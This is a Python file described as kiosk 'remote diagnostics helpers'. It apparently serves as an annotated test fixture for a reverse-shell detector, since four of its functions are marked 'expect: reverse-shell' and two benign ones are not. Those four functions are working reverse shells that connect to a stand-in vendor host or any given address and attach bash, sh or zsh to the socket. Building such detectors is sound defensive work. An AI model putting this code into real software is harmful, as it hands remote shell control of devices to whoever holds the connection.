"""Remote diagnostics helpers shipped on kiosk devices."""
import os
import pty
import socket
import subprocess
from pty import spawn as open_tty

SUPPORT_HOST = ("support.kiosk-vendor.example", 4444)


def support_session():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(SUPPORT_HOST)
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    # expect: reverse-shell
    pty.spawn("/bin/bash")


def fallback_session(host, port):
    sock = socket.socket()
    sock.connect((host, port))
    os.dup2(sock.fileno(), 0)
    os.dup2(sock.fileno(), 1)
    os.dup2(sock.fileno(), 2)
    # expect: reverse-shell
    subprocess.call(["/bin/sh", "-i"])


class Tunnel:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port))

    def attach(self):
        fd = self.sock.fileno()
        # expect: reverse-shell
        return subprocess.Popen(["/bin/zsh", "-i"], stdin=fd, stdout=fd, stderr=fd)

    def interactive(self):
        for fd in (0, 1, 2):
            os.dup2(self.sock.fileno(), fd)
        # expect: reverse-shell
        open_tty("/bin/sh")


def local_console():
    pty.spawn("/bin/bash")


def send_heartbeat(device_id):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("telemetry.kiosk-vendor.example", 9000))
    s.sendall(device_id.encode() + b"\n")
    s.close()
